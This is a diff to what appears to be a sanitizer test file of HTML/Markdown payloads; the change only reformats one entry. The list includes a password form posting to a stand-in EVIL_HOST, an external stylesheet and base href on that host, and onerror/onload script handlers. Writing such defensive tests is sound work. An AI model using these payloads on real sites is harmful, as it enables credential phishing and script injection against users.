@@ -27,7 +27,10 @@ export const PAYLOADS: Payload[] = [
   html('base href', `<base href="https://${EVIL_HOST}/">`),
   html('style', '<style>body { display: none }</style>'),
   html('external link', `<link rel="stylesheet" href="https://${EVIL_HOST}/x.css">`),
-  html('password form', `<form action="https://${EVIL_HOST}/"><input type="password" name="p"><button>登录</button></form>`),
+  html(
+    'password form',
+    `<form action="https://${EVIL_HOST}/"><input type="password" name="p"><button>登录</button></form>`,
+  ),
   html('table cell', `| 序号 | 内容 |\n| --- | --- |\n| 1 | <img src="x" onerror="alert('cell')"> |`),
   html('table heading', `| <svg onload="alert('th')"></svg> |\n| --- |\n| 1 |`),
   html('heading', `## 标题<img src="x" onerror="alert('heading')">`),
